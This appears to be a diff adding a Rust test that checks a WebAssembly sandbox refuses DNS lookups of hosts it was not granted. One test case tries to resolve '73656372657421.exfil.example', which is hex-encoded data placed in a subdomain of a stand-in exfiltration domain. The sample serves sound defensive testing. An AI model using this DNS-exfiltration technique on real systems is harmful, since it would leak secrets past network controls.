@@ -159,7 +159,29 @@ fn tcp_is_refused_unless_the_address_is_granted() {
     misbehaver(&mut w, "elsewhere", "connect", &[("target", address.clone()), ("wasm.net.connect", other_address)]);
     let allowed_topic =
         misbehaver(&mut w, "allowed", "connect", &[("target", address.clone()), ("wasm.net.connect", address.clone())]);
+    // Name lookups: only of the granted host names, so no lookup can carry data out.
+    let port = listener.local_addr().unwrap().port();
+    let granted = format!("localhost:{port}");
+    let lookup_topic = misbehaver(
+        &mut w,
+        "lookup-granted",
+        "lookup",
+        &[("target", granted.clone()), ("wasm.net.connect", granted.clone())],
+    );
+    misbehaver(
+        &mut w,
+        "lookup-other",
+        "lookup",
+        &[("target", "73656372657421.exfil.example:80".into()), ("wasm.net.connect", granted.clone())],
+    );
     let worker = w.start();
+    worker
+        .wait("the granted name's lookup", Duration::from_secs(30), || (topic_count(&lookup_topic) >= 1).then_some(()));
+    let trace = failed_trace(&worker, "lookup-other");
+    assert!(trace.contains("cannot look up 73656372657421.exfil.example:80"), "{trace}");
+    worker.wait("the host's log line about the refused lookup", Duration::from_secs(10), || {
+        worker.log().contains("refused a name lookup of \"73656372657421.exfil.example\"").then_some(())
+    });
 
     for name in ["refused", "elsewhere"] {
         let trace = failed_trace(&worker, name);
